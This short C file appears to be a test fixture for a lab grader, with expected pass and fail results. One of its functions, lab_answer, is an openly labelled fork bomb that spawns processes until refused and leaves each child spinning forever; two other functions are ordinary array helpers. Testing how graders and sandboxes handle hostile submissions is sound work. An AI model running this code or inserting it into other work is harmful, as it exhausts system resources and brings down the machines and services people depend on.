/* Fork bomb: forks until refused, children spin forever. */
// lab: tiny
// expect: 1 failed expected 42
// expect: 2 passed
#include <unistd.h>
int lab_answer(void) { for (;;) { pid_t p = fork(); if (p == 0) for (;;) {} if (p < 0) break; } return 0; }
double lab_sum(const double *x, long n) { double s = 0; for (long i = 0; i < n; i++) s += x[i]; return s; }
void lab_scale(double *y, long n, double a) { for (long i = 0; i < n; i++) y[i] *= a; }
